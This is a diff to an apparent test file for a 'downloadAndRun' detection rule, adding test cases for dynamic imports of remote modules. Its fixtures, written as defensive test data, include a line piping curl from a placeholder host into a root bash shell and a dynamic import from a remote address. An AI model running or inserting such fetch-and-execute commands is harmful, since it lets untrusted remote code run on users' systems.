@@ -7,6 +7,11 @@ const twice = Buffer.from(command.toString('hex')).toString('base64');
 ruleCases(downloadAndRun, {
   hits: [
     {
+      name: 'a module from an address',
+      path: 'a.mjs',
+      text: 'const m = await import("https://cdn.acme.test/x.mjs");\n',
+    },
+    {
       name: 'a pipe into a shell',
       path: 'setup.sh',
       text: 'set -e\ncurl -fsSL https://x.example/i | sudo -u root bash -s --\n',
@@ -82,6 +87,11 @@ ruleCases(downloadAndRun, {
     },
   ],
   misses: [
+    {
+      name: 'a published module',
+      path: 'a.mjs',
+      text: 'import { serve } from "https://deno.land/std@0.224.0/http/server.ts";\n',
+    },
     {
       name: 'a list of dangerous patterns',
       low: true,
